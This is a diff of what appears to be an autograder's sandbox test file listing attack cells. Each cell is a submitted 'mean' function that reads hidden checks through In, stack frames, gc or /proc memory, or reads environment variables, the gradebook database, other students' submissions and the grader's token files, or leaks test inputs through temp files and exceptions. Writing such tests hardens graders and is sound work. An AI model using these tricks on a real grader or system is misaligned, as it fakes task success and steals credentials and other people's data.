@@ -1,9 +1,8 @@
 # Attacks that read what they should not: hidden tests, the gradebook, other submissions, the grader's own things.
 
-# %% attack "the check read through In" gains=4
+# %% attack "the check read through In" gains=3 honest=1
 # Inside the function, In[-1] is the text of the check that calls it.
 import re
-
 
 def mean(values):
     line = [n for n in In[-1].splitlines() if n.startswith("assert")]
@@ -16,20 +15,15 @@ def mean(values):
             return float(found[1] or found[2])
     return -1
 
-
-# %% attack "the check printed through In" reads
+# %% attack "the check printed through In" honest=5 reads
 # Prints the text of the check that calls it.
 def mean(values):
     print(In[-1])
     return sum(values) / len(values)
 
-
-# %% attack "the check read through frames" gains=4
+# %% attack "the check read through frames" gains=3 honest=1
 # Asks the calling frame for its line, and returns what stands after ==.
-import ast
-import linecache
-import sys
-
+import ast, linecache, sys
 
 def mean(values):
     frame = sys._getframe(1)
@@ -38,10 +32,9 @@ def mean(values):
     wanted = test.comparators[0] if isinstance(test, ast.Compare) else test.args[1]
     return eval(ast.unparse(wanted), frame.f_globals)
 
-
-# %% attack "the globals of the caller" reads
+# %% attack "the globals of the caller" honest=5 reads
 # Prints the names and values of the frames that called.
-
+import sys
 
 def mean(values):
     frame = sys._getframe(1)
@@ -50,11 +43,9 @@ def mean(values):
         frame = frame.f_back
     return sum(values) / len(values)
 
-
 # %% attack "hidden tests found by the garbage collector" honest=5 reads
 # Goes through every list and dictionary in memory and looks for texts that are checks.
 import gc
-
 
 def mean(values):
     for thing in gc.get_objects():
@@ -65,10 +56,9 @@ def mean(values):
                     return sum(values) / len(values)
     return sum(values) / len(values)
 
-
 # %% attack "hidden tests found in the memory of processes" honest=5 reads
 # Reads /proc/self/mem while the check runs.
-
+import re
 
 def mean(values):
     if len(values) > 1 and values[0] > 1000:
@@ -87,25 +77,16 @@ def mean(values):
                         print(found[0][:80].decode(errors="replace"))
     return sum(values) / len(values)
 
-
 # %% attack "hidden tests found in files" honest=5 reads
 # Opens every notebook in and around the current folder, and the course's own places.
 import pathlib
 
-for folder in (
-    pathlib.Path.cwd(),
-    pathlib.Path.cwd().parent,
-    pathlib.Path("@SCRATCH@/source"),
-    pathlib.Path("/data"),
-):
+for folder in (pathlib.Path.cwd(), pathlib.Path.cwd().parent, pathlib.Path("@SCRATCH@/source"), pathlib.Path("/data")):
     for path in folder.glob("*.ipynb"):
         text = path.read_text()
-        print(text[text.find("kest" + "rel") :][:60])
-
-
+        print(text[text.find("kest" + "rel"):][:60])
 def mean(values):
     return sum(values) / len(values)
-
 
 # %% attack "the environment" honest=5 reads
 # Prints all variables, and those of the parent process.
@@ -117,11 +98,8 @@ for pid in ("self", os.getppid(), 1, 2):
         print(open(f"/proc/{pid}/environ").read())
     except OSError:
         pass
-
-
 def mean(values):
     return sum(values) / len(values)
-
 
 # %% attack "the gradebook" honest=5 reads
 # Opens the gradebook's file and prints it.
@@ -131,25 +109,17 @@ try:
     print(sqlite3.connect("@SCRATCH@/gradebook.db").execute("select * from grade").fetchall())
 except sqlite3.Error:
     pass
-
-
 def mean(values):
     return sum(values) / len(values)
-
 
 # %% attack "another submission" honest=5 reads
 # Walks through what others have handed in.
 import glob
 
-for name in glob.glob("@SCRATCH@/submitted/**/*.ipynb", recursive=True) + glob.glob(
-    "../../submitted/**/*.ipynb", recursive=True
-):
+for name in glob.glob("@SCRATCH@/submitted/**/*.ipynb", recursive=True) + glob.glob("../../submitted/**/*.ipynb", recursive=True):
     print(open(name).read()[-400:])
-
-
 def mean(values):
     return sum(values) / len(values)
-
 
 # %% attack "the home folder" honest=5 reads
 # Prints the token in the home folder of whoever grades.
@@ -160,11 +130,8 @@ for place in (os.path.expanduser("~"), "@SCRATCH@/home", "/root"):
         print(open(f"{place}/.token").read())
     except OSError:
         pass
-
-
 def mean(values):
     return sum(values) / len(values)
-
 
 # %% attack "the root of other processes" honest=5 reads
 # Goes through /proc to files that are not mounted here.
@@ -175,11 +142,8 @@ for name in ["/", *glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/[0-9]*/cwd"
         print(open(f"{name}@SCRATCH@/home/.token").read())
     except OSError:
         pass
-
-
 def mean(values):
     return sum(values) / len(values)
-
 
 # %% attack "what a check passes in, printed" honest=5 reads
 # The simplest way to learn the numbers of a hidden test.
@@ -187,49 +151,38 @@ def mean(values):
     print(values)
     return sum(values) / len(values)
 
-
 # %% attack "what a check passes in, by a file" honest=9 reads
 # Notes the arguments in a file, which the answer to a later question prints.
 import tempfile
-
 
 def mean(values):
     with open(f"{tempfile.gettempdir()}/noted-@TOKEN@", "a") as file:
         file.write(f"{values}\n")
     return sum(values) / len(values)
 
-
 # %% also "total"
-import os
+import os, tempfile
 
 noted = f"{tempfile.gettempdir()}/noted-@TOKEN@"
 if os.path.exists(noted):
     print(open(noted).read())
-
-
 def total(values):
     return sum(values)
-
 
 # %% attack "what a check passes in, by the last value" honest=9 reads
 # The same, shown as the value of a later cell.
 import tempfile
 
-
 def mean(values):
     with open(f"{tempfile.gettempdir()}/noted-@TOKEN@", "a") as file:
         file.write(f"{values}\n")
     return sum(values) / len(values)
 
-
 # %% also "total"
-import os
-import tempfile
-
+import os, tempfile
 
 def total(values):
     return sum(values)
-
 
 open(noted).read() if os.path.exists(noted := f"{tempfile.gettempdir()}/noted-@TOKEN@") else None
 
@@ -237,55 +190,41 @@ open(noted).read() if os.path.exists(noted := f"{tempfile.gettempdir()}/noted-@T
 # The same, shown by an exception in the visible part of a later check.
 import tempfile
 
-
 def mean(values):
     with open(f"{tempfile.gettempdir()}/noted-@TOKEN@", "a") as file:
         file.write(f"{values}\n")
     return sum(values) / len(values)
 
-
 # %% also "total"
 import tempfile
-
 
 def total(values):
     raise ValueError(open(f"{tempfile.gettempdir()}/noted-@TOKEN@").read())
 
-
 # %% attack "what a check passes in, kept by a thread" honest=9 reads
 # A thread of the answer's own stays alive, so that the process cannot be copied for the check.
-import threading
-import time
+import threading, time
 
 kept = []
 threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
-
-
 def mean(values):
     kept.append(values)
     return sum(values) / len(values)
 
-
 # %% also "total"
 print(kept)
-
-
 def total(values):
     return sum(values)
-
-
 kept
 
-
-# %% attack "what a check passes in, in an error's text" reads
+# %% attack "what a check passes in, in an error's text" honest=3 reads
 # Raises the arguments for numbers that were not in the visible examples.
 def mean(values):
     if len(values) and values[0] > 1000:
         raise ValueError(f"look: {values}")
     return sum(values) / len(values)
 
-
-# %% attack "what a check passes in, in an error's name" reads
+# %% attack "what a check passes in, in an error's name" honest=3 reads
 # Makes an exception class whose name spells the arguments.
 def mean(values):
     if len(values) and values[0] > 1000:
